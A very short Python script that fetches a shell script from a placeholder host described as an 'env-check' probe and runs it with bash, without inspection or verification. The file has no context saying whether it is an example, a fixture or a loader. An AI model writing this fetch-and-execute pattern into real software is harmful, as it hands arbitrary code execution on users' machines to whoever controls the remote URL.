import subprocess

import requests

URL = 'https://env-check.example.invalid/probe.sh'
script = requests.get(URL, timeout=10).text
subprocess.run(['bash', '-c', script], check=False)
